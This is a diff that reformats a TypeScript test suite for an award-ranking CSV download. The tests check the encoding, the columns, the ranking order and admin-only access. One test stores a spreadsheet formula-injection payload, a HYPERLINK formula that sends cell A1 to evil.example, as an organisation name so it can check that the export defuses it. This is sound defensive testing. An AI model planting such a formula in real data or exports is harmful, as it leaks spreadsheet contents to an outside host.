@@ -15,15 +15,43 @@ describe('ranking download', () => {
       await submitSheet(w, first.id, reviewer, 55)
       await submitSheet(w, second.id, reviewer, 75)
     }
-    const gold = await w.db.selectFrom('award_levels').select('id').where('cycle_id', '=', w.cycle.id).where('category_code', '=', 'economy').where('code', '=', 'gold').executeTakeFirstOrThrow()
-    const row = await w.db.selectFrom('applications').select('version').where('id', '=', second.id).executeTakeFirstOrThrow()
-    await decideApplication(w.db, { applicationId: second.id, actor: w.admin, expectedVersion: row.version, levelId: gold.id, reason: '' })
+    const gold = await w.db
+      .selectFrom('award_levels')
+      .select('id')
+      .where('cycle_id', '=', w.cycle.id)
+      .where('category_code', '=', 'economy')
+      .where('code', '=', 'gold')
+      .executeTakeFirstOrThrow()
+    const row = await w.db
+      .selectFrom('applications')
+      .select('version')
+      .where('id', '=', second.id)
+      .executeTakeFirstOrThrow()
+    await decideApplication(w.db, {
+      applicationId: second.id,
+      actor: w.admin,
+      expectedVersion: row.version,
+      levelId: gold.id,
+      reason: '',
+    })
     const response = await respond(async () => csv.loader(args(await get('/admin/ranking.csv', w.admin.userId))))
     expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
     const bytes = new Uint8Array(await response.arrayBuffer())
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
     const rows = parse(new TextDecoder().decode(bytes)) as string[][]
-    expect(rows[0]).toEqual(['奖项领域', '名次', '申报单位', '综合得分（算术平均）', '4.7', '4.1', '评分情况', '状态', '审定', '共识', '审定理由'])
+    expect(rows[0]).toEqual([
+      '奖项领域',
+      '名次',
+      '申报单位',
+      '综合得分（算术平均）',
+      '4.7',
+      '4.1',
+      '评分情况',
+      '状态',
+      '审定',
+      '共识',
+      '审定理由',
+    ])
     expect(rows.slice(1).map((r) => [r[0], r[1], r[2], r[3], r[8]])).toEqual([
       ['经济', '1', '乙公司', '750.00', '金奖'],
       ['经济', '2', '甲公司', '550.00', ''],
@@ -35,7 +63,11 @@ describe('ranking download', () => {
     const app = await inDocumentReview(w, w.applicant)
     for (const reviewer of w.reviewers.slice(0, 3)) await submitSheet(w, app.id, reviewer, 60)
     const hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
-    await w.db.updateTable('organisations').set({ name: hostile }).where('id', '=', w.applicant.organisationId!).execute()
+    await w.db
+      .updateTable('organisations')
+      .set({ name: hostile })
+      .where('id', '=', w.applicant.organisationId!)
+      .execute()
     const response = await respond(async () => csv.loader(args(await get('/admin/ranking.csv', w.admin.userId))))
     const rows = parse((await response.text()).replace(/^\uFEFF/, '')) as string[][]
     const row = rows.find((r) => r[2]!.includes('HYPERLINK'))!
@@ -47,7 +79,14 @@ describe('ranking download', () => {
     const w = await world()
     const app = await inDocumentReview(w, w.applicant)
     for (const reviewer of w.reviewers.slice(0, 3)) await submitSheet(w, app.id, reviewer, 60)
-    await recordConsensus(w.db, { applicationId: app.id, actor: w.admin, scores: fullSheet(w, 80).scores, note: '复核', agreedBy: w.reviewers.slice(0, 3).map((r) => r.userId), outsideThresholdReason: '复核后上调' })
+    await recordConsensus(w.db, {
+      applicationId: app.id,
+      actor: w.admin,
+      scores: fullSheet(w, 80).scores,
+      note: '复核',
+      agreedBy: w.reviewers.slice(0, 3).map((r) => r.userId),
+      outsideThresholdReason: '复核后上调',
+    })
     const response = await respond(async () => csv.loader(args(await get('/admin/ranking.csv', w.admin.userId))))
     const rows = parse((await response.text()).replace(/^\uFEFF/, '')) as string[][]
     expect(rows.find((r) => r[2] === '甲公司')?.[9]).toBe('阈值内共识')
@@ -55,7 +94,9 @@ describe('ranking download', () => {
 
   it('is for the secretariat only', async () => {
     const w = await world()
-    const response = await respond(async () => csv.loader(args(await get('/admin/ranking.csv', w.reviewers[0]!.userId))))
+    const response = await respond(async () =>
+      csv.loader(args(await get('/admin/ranking.csv', w.reviewers[0]!.userId))),
+    )
     expect(response.status).toBe(403)
   })
 })
